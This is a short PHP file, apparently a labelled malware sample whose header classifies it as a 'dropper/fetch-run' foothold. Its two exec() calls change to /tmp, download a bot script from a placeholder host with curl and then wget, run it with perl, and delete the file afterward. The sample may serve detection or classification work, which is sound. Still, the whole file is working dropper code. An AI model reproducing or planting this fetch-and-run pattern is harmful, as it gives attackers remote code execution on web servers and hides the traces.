<?php
/* Family: dropper/fetch-run
 * Style: foothold that pulls a bot script into /tmp and starts it
 * Trait: one exec() per download tool (curl, wget, lwp-download), each followed by the interpreter run and a cleanup
 */
$from = "http://downloads.example.invalid/";
exec('cd /tmp;curl -O ' . $from . 'x.txt;perl x.txt;rm -f x.txt*;');
exec('cd /tmp;wget ' . $from . 'x.txt;perl x.txt;rm -f x.txt*;');
